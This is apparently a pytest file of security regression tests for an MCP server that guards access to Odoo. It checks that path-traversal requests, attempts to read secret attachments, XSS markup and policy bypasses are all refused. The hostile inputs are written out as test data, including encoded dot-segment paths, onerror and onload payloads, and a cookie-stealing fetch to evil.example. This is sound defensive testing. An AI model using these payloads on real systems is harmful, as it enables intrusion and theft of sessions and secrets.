"""The doors the web families opened, closed through the real server (stdio, the real mcp client, the Odoo double
over real HTTP): each test is an escape the second attack corpus found, and fails on the code it found it in."""

from __future__ import annotations

import base64
from collections.abc import Iterator

import pytest

from guard.spec import ToolFailure
from odoo_client.connection import OdooConnection
from odoo_client.settings import ConnectionConfig
from tests.harness import guarded_server
from tests.odoo_double import ADMIN, OdooDouble
from tests.odoo_double.database import Env
from tests.odoo_double.seed import SECRETS
from tests.sensitive_cases import call, in_process, odoo_env
from tools.odoo_kit.sensitive import attachment_content_refusal, execute_refusal
from tools.odoo_kit.sensitive_rules import FieldInfo, SensitiveRules
from tools.web_session.session import WebSession

pytestmark = pytest.mark.anyio
ALLOW_ALL = {"version": "1", "default": "allow"}


@pytest.fixture
def double() -> Iterator[OdooDouble]:
    with OdooDouble(partners=3) as running:
        yield running


def server_env(double: OdooDouble, tmp_path, **extra: str) -> dict[str, str]:
    files = tmp_path / "files"
    files.mkdir(exist_ok=True)
    return odoo_env(double, "jsonrpc", ODOO_MCP_FILES_DIR=str(files), **extra)


async def test_web_request_sends_only_the_path_it_checked(double, tmp_path):
    """An encoded `?` hid dot segments from the path check; httpx then removed them and the grant's web session
    reached call_kw (database.secret read), the database manager and attachments."""
    call_kw = {"jsonrpc": "2.0", "method": "call", "id": 1,
               "params": {"model": "ir.config_parameter", "method": "search_read", "args": [[]], "kwargs": {}}}
    hostile = [("POST", "/my/x%3F/../../web/dataset/call_kw", call_kw),
               ("POST", "/my/x%3F/../../jsonrpc", {}),
               ("GET", "/my/x%3F/../../web/database/list", {}),
               ("GET", "/my/x%3F/../../web/content/1", {}),
               ("GET", "/my/%2e%2e/web/content/1", {}),
               ("GET", "/my/..%2fweb/content/1", {}),
               ("POST", "/my/x%23/../../web/action/run", {})]
    async with guarded_server(ALLOW_ALL, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
        login = await server.call("odoo_web_login", {})
        assert not login.is_error, login.text
        home = await server.call("odoo_web_request", {"path": "/my/home"})
        assert not home.is_error and home.data["status"] == 200, home.text
        sent_before = len(double.database.web_log)
        answers = [await server.call("odoo_web_request", {"path": path, "method": method, "data": data})
                   for method, path, data in hostile]
        records = server.audit_records()
    for (_, path, _), answer in zip(hostile, answers, strict=True):
        assert answer.is_error and answer.tag == "TOOL ERROR", (path, answer.text)
        assert "s3cr3t" not in answer.text and "refused" in answer.text, (path, answer.text)
    assert double.database.web_log[sent_before:] == []  # nothing of it reached Odoo
    refused = [r for r in records if r["tool"] == "odoo_web_request" and r["outcome"] != "ok"]
    assert len(refused) == len(hostile)


def test_the_session_sends_exactly_the_path_it_was_given(double):
    """Below the route decision: a path the HTTP client would rewrite (dot segments) is never sent."""
    connection = OdooConnection(ConnectionConfig(alias="default", url=double.url, db=double.db,
                                                 username=ADMIN["login"], password=ADMIN["password"]))
    session = WebSession(connection, anonymous=True)
    try:
        for path in ("/report/barcode/Code128/..", "/shop/./x", "/shop/a/../../web/database/list"):
            with pytest.raises(ToolFailure, match="not to the path that was checked"):
                session.send("GET", path)
        assert double.database.web_log == []
        session.send("GET", "/shop", params={"search": "a b&c"})
    finally:
        session.close()
    assert double.database.web_log == [("GET", "/shop?search=a+b%26c", False)]


async def test_a_barcode_of_dots_stays_one_segment(double, tmp_path):
    async with in_process(ALLOW_ALL, double, "jsonrpc", tmp_path / "files") as guard:
        result = await call(guard, "public_access_barcode", {"value": ".."})
    assert not result.is_error, result.text
    assert double.database.web_log[-1][1].startswith("/report/barcode/Code128/%2E%2E?")


def attachment(double: OdooDouble, name: str) -> int:
    return next(r["id"] for r in double.database.models["ir.attachment"].records.values() if r["name"] == name)


async def test_every_route_to_a_file_applies_the_attachment_owner_check(double, tmp_path):
    """`public_access_image(model="ir.attachment", field="datas")` served the file of an attachment whose owner is a
    sensitive model or field, which `public_access_download` refuses; exports of attachment content did the same."""
    env = Env(double.database, double.database.users[2])
    owned = env.insert(double.database.models["ir.attachment"], {
        "name": "params.txt", "res_model": "ir.config_parameter", "res_id": 2,
        "datas": base64.b64encode(b"database.secret=s3cr3t").decode(), "mimetype": "text/plain"})
    secrets = [base64.b64decode(SECRETS["smtp_pem"]), base64.b64decode(SECRETS["private_key_file"]),
               b"database.secret=s3cr3t"]
    secrets += [base64.b64encode(secret) for secret in secrets]
    async with guarded_server(ALLOW_ALL, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
        assert not (await server.call("odoo_web_login", {})).is_error
        answers = []
        for content_id in (attachment(double, "smtp.pem"), attachment(double, "company.key"), owned):
            image = {"model": "ir.attachment", "record_id": content_id, "field": "datas"}
            answers.append(await server.call("public_access_image", image))
            answers.append(await server.call("public_access_image", {**image, "save_path": f"i{content_id}.png"}))
            answers.append(await server.call("public_access_download", {"content_id": content_id}))
        for tool in ("public_access_export_csv", "odoo_web_export"):
            for fields in (["name", "datas"], ["name", "raw"]):
                answers.append(await server.call(tool, {"model": "ir.attachment", "fields": fields,
                                                        "save_path": "a.csv"} if tool.startswith("public")
                                                 else {"model": "ir.attachment", "fields": fields}))
        answers.append(await server.call("public_access_export_csv", {
            "model": "res.partner", "fields": ["name", "message_main_attachment_id/datas"], "save_path": "b.csv"}))
        # not a binary field: Odoo would decode the field's text as base64 and serve it
        answers.append(await server.call("public_access_image", {"model": "res.partner", "record_id": 1,
                                                                 "field": "email"}))
        spec = {"datas": {}, "name": {}}
        masked = [await server.call(tool, {"model": "ir.attachment", "method": "web_search_read",
                                           "kwargs": {"domain": [], "specification": spec}})
                  for tool in ("odoo_web_call", "odoo_execute")]
        fine = await server.call("public_access_image", {"model": "res.partner", "record_id": 1})
        hello = await server.call("public_access_download", {"content_id": attachment(double, "hello.txt")})
    for answer in answers:
        assert answer.is_error and answer.tag in ("POLICY DENIED", "TOOL ERROR"), answer.text
        assert not any(secret.decode("latin-1") in answer.text for secret in secrets), answer.text
    for answer in masked:  # the records of web_search_read are masked like a read's rows
        assert not answer.is_error and "hello.txt" in answer.text, answer.text
        assert not any(secret.decode("latin-1") in answer.text for secret in secrets), answer.text
    written = b"".join(path.read_bytes() for path in (tmp_path / "files").iterdir())
    assert not any(secret in written for secret in secrets)
    assert not fine.is_error and not hello.is_error, (fine.text, hello.text)


SCHEMA = {"res.partner": {"message_main_attachment_id": FieldInfo("many2one", "ir.attachment"),
                          "user_id": FieldInfo("many2one", "res.users"), "name": FieldInfo("char")},
          "ir.attachment": {"datas": FieldInfo("binary"), "name": FieldInfo("char")},
          "res.users": {"name": FieldInfo("char")}}


@pytest.mark.parametrize(("model", "paths", "refused"), [
    ("ir.attachment", ["name", "datas"], True),
    ("ir.attachment", ["raw"], True),
    ("ir.attachment", ["db_datas"], True),
    ("res.partner", ["message_main_attachment_id/datas"], True),
    ("res.partner", ["unknown_relation/datas"], True),  # the schema cannot tell: judged by the name
    ("res.partner", ["name", "message_main_attachment_id/name"], False),
    ("res.partner", ["user_id/name"], False),
    ("res.users", ["datas"], False),  # a binary field of another model: its own model and field rules apply
])
def test_exports_of_attachment_content_are_refused(model, paths, refused):
    found = attachment_content_refusal(SensitiveRules(), SCHEMA, model, paths)
    assert (found is not None) is refused, found


DOCUMENTS = [
    '<html><head><script>alert(1)</script></head><body><p>Bureau</p></body></html>',
    '<!doctype html><html><body onload="alert(1)"><p>Bureau</p></body></html>',
    '<!DOCTYPE html><p>Bureau</p><img src=x onerror=alert(1)>',
    '<HTML><body onload=alert(1)>Bureau',
    '<p>Bureau</p><body onload="alert(1)">',
    '<p>Bureau<!-- --!><img src=x onerror=alert(1)> --></p>',
]


async def test_translated_markup_is_judged_whole_whatever_its_shape(double, tmp_path):
    """Markup starting with `<html` or `<!doctype` was parsed as a document and only `<body>`'s children compared
    with the sanitiser's output: `<head><script>` and `<body onload>` were stored and served to visitors."""
    record = double.database.models["product.template"].records[1]
    before = dict(record["__translations__"].get("website_description", {}))
    async with guarded_server(ALLOW_ALL, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
        replaced = [await server.call("odoo_translate_html", {
            "model": "product.template", "res_id": 1, "field_name": "website_description", "mode": "replace",
            "translations": {"bg_BG": html}}) for html in DOCUMENTS]
        termed = [await server.call("odoo_translate_html", {
            "model": "product.template", "res_id": 1, "field_name": "website_description",
            "translations": {"fr_FR": {"Made of oak": html}}}) for html in DOCUMENTS]
        fine = await server.call("odoo_translate_html", {
            "model": "product.template", "res_id": 1, "field_name": "website_description",
            "translations": {"fr_FR": {"Made of oak": "En <b>chêne</b>"}}})
    for html, answer in zip(DOCUMENTS * 2, replaced + termed, strict=True):
        assert answer.tag == "INVALID ARGUMENTS" and "nothing was written" in answer.text, (html, answer.text)
    assert not fine.is_error, fine.text
    stored = record["__translations__"]["website_description"]
    assert stored.get("bg_BG") == before.get("bg_BG") and "alert" not in str(stored)


def view_id(double: OdooDouble, key: str | bool) -> int:
    return next(r["id"] for r in double.database.models["ir.ui.view"].records.values() if r["key"] == key)


async def test_snippet_edits_never_write_javascript_nor_leave_website_pages(double, tmp_path):
    """A text substitution replaced a `<script>`'s text; `@src` was checked as an image's, so a `<script src>` to
    another host passed; and any view could be edited (`web.layout`, backend forms), not only website pages."""
    product = double.database.models["product.template"].records[1]
    product["website_description"] = ('<section class="s_text_block" data-snippet="s_text_block"><p>Oak</p>'
                                      '<script>var shop = 1;</script><style>p {color: red}</style></section>')
    views = double.database.models["ir.ui.view"].records
    layout, form, home = view_id(double, "web.layout"), view_id(double, False), view_id(double, "website.homepage")
    before = {key: dict(record) for key, record in views.items()}
    field = {"model": "product.template", "res_id": 1, "field_name": "website_description", "snippet_xpath": "/section"}
    script, style = "fetch('//evil.example/'+document.cookie)", "body{background:url(//evil.example)}"
    hostile = [
        ("odoo_website_update_snippet", {**field, "substitutions": {".//script": script}}),
        ("odoo_website_update_snippet", {**field, "substitutions": {".//style": style}}),
        ("odoo_website_update_snippet", {**field, "substitutions": {".//script/@src": "https://evil.example/x.js"}}),
        ("odoo_website_update_snippet", {**field, "substitutions": {".//p/@src": "https://evil.example/x.js"}}),
        ("odoo_website_update_snippet", {**field, "substitutions": {"@onmouseover": "alert(1)"}}),
        ("odoo_website_update_snippet", {"model": "ir.ui.view", "res_id": layout, "field_name": "arch_db",
                                         "snippet_xpath": "/t/html/head", "substitutions": {".": "alert(1)"}}),
        ("odoo_website_update_snippet", {"model": "ir.ui.view", "res_id": layout, "field_name": "arch_db",
                                         "snippet_xpath": "/t/html/body", "substitutions": {"@class": "x"}}),
        ("odoo_website_remove_snippet", {"model": "ir.ui.view", "res_id": form, "field_name": "arch_db",
                                         "snippet_xpath": "/form/sheet"}),
        ("odoo_website_update_snippet", {"model": "ir.ui.view", "res_id": home, "field_name": "name",
                                         "snippet_xpath": "/x", "substitutions": {".": "x"}}),
    ]
    description = product["website_description"]
    async with guarded_server(ALLOW_ALL, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
        answers = [await server.call(tool, args) for tool, args in hostile]
        page = await server.call("odoo_website_update_snippet", {
            "model": "ir.ui.view", "res_id": home, "field_name": "arch_db", "snippet_xpath": "/t/t/div/section",
            "substitutions": {".//p": "Open every day", "@data-name": "Opening hours"}})
        text = await server.call("odoo_website_update_snippet", {**field, "substitutions": {".//p": "Solid oak"}})
    for (tool, args), answer in zip(hostile, answers, strict=True):
        assert answer.is_error and answer.tag in ("INVALID ARGUMENTS", "TOOL ERROR", "POLICY DENIED"), (
            tool, args, answer.text)
    assert not page.is_error and not text.is_error, (page.text, text.text)
    assert {key: record for key, record in views.items() if key != home} == {k: v for k, v in before.items()
                                                                            if k != home}
    assert "Open every day" in views[home]["arch_db"]
    assert product["website_description"] == description.replace("<p>Oak</p>", "<p>Solid oak</p>")


async def test_page_and_translation_writes_obey_odoo_writes_rule(double, tmp_path):
    """One action, one rule: `odoo_write` denied `ir.ui.view` and `product.template`, and the snippet and
    translation tools wrote them anyway."""
    policy = {"version": "1", "default": "allow", "tools": {"odoo_write": {"deny_if": [
        {"arg": "model", "op": "in", "value": ["ir.ui.view", "product.template"]}]}}}
    home = view_id(double, "website.homepage")
    views = double.database.models["ir.ui.view"].records
    product = double.database.models["product.template"].records[1]
    arch, translations = views[home]["arch_db"], repr(product["__translations__"])
    page = {"model": "ir.ui.view", "res_id": home, "field_name": "arch_db"}
    writes = [
        ("odoo_website_update_snippet", {**page, "snippet_xpath": "/t/t/div/section", "substitutions": {".//p": "x"}}),
        ("odoo_website_remove_snippet", {**page, "snippet_xpath": "/t/t/div/section"}),
        ("odoo_website_add_snippet", {**page, "snippet_key": "website.s_text_block"}),
        ("odoo_translate_html", {**page, "res_id": home, "translations": {"fr_FR": {"Welcome": "Bienvenue"}}}),
        ("odoo_translate_field", {"model": "product.template", "res_id": 1, "field_name": "name",
                                  "translations": {"fr_FR": "Table"}}),
        ("odoo_translate_html", {"model": "product.template", "res_id": 1, "field_name": "website_description",
                                 "mode": "replace", "translations": {"bg_BG": "<p>Бюро</p>"}}),
        ("odoo_write", {"model": "product.template", "ids": [1], "values": {"name": "Table"}}),
    ]
    async with guarded_server(policy, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
        answers = [await server.call(tool, args) for tool, args in writes]
        dry = await server.call("odoo_website_update_snippet", {**page, "snippet_xpath": "/t/t/div/section",
                                                                "substitutions": {".//p": "x"}, "dry_run": True})
        records = server.audit_records()
    for (tool, _), answer in zip(writes, answers, strict=True):
        assert answer.tag == "POLICY DENIED" and "odoo_write" in answer.text, (tool, answer.text)
    assert not dry.is_error, dry.text  # a dry run writes nothing: odoo_write's rule is not its rule
    assert views[home]["arch_db"] == arch and repr(product["__translations__"]) == translations
    denied = [r for r in records if r["outcome"] == "denied" and r["tool"] != "odoo_write"]
    assert {r["tool"] for r in denied} == {tool for tool, _ in writes[:-1]}
    assert all(r.get("equivalent_of") == ["odoo_write"] for r in denied)


async def test_replace_mode_never_takes_the_callers_word_for_the_source_language(double, tmp_path):
    """`source_lang` was trusted, even an inactive language: naming `de_DE` as the source let `replace` overwrite
    the real source (en_US) and orphan every other language's terms."""
    record = double.database.models["product.template"].records[1]
    source = record["website_description"]
    base = {"model": "product.template", "res_id": 1, "field_name": "website_description", "mode": "replace"}
    async with guarded_server(ALLOW_ALL, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
        inactive = await server.call("odoo_translate_html", {**base, "source_lang": "de_DE",
                                                             "translations": {"en_US": "<p>Overwritten</p>"}})
        unknown = await server.call("odoo_translate_html", {**base, "source_lang": "xx_XX",
                                                            "translations": {"bg_BG": "<p>Бюро</p>"}})
        other = await server.call("odoo_translate_html", {**base, "source_lang": "fr_FR",
                                                          "translations": {"en_US": "<p>Overwritten</p>"}})
        fine = await server.call("odoo_translate_html", {**base, "translations": {"bg_BG": "<div><p>Бюро</p></div>"}})
    assert inactive.is_error and "not active" in inactive.text and "de_DE" in inactive.text, inactive.text
    assert unknown.is_error and "not active" in unknown.text, unknown.text
    assert other.is_error and "en_US" in other.text and "source" in other.text, other.text
    assert not fine.is_error, fine.text
    assert record["website_description"] == source


@pytest.mark.parametrize(("model", "method", "kwargs", "refused"), [
    ("res.partner", "web_read", {"specification": {"message_main_attachment_id": {"fields": {"datas": {}}}}}, True),
    ("res.partner", "web_search_read", {"specification": {"message_main_attachment_id": {"fields": {"raw": {}}}}},
     True),
    ("res.partner", "web_read", {"specification": {"message_main_attachment_id": {"fields": {"name": {}}}}}, False),
    ("res.partner", "web_read", {"specification": {"user_id": {"fields": {"name": {}}}}}, False),
    ("ir.attachment", "web_search_read", {"specification": {"datas": {}, "name": {}}}, False),  # masked by owner
    ("ir.attachment", "export_data", {"fields_to_export": ["datas"]}, True),
])
def test_attachment_content_through_a_relation_is_refused(model, method, kwargs, refused):
    found = execute_refusal(SensitiveRules(), SCHEMA, model, method, [[1]], kwargs)
    assert (found is not None) is refused, found
